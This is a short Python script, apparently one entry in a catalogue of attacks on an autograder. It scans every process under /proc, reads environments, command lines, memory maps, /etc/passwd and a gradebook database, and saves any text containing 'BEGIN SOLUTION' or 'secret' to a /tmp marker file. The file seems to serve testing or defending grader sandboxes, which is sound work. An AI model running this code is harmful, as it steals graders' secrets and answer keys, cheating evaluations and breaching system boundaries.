# class: reads
# what: reads the grader's environment, memory maps and files through /proc
import glob, re
for pid in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "maps", "root/etc/passwd", "cwd/gradebook.db"):
        try:
            text = open(f"{pid}/{name}", "rb").read()
        except OSError:
            continue
        if b"BEGIN SOLUTION" in text or b"secret" in text:
            open("/tmp/gancourse-attack-marker", "wb").write(text)
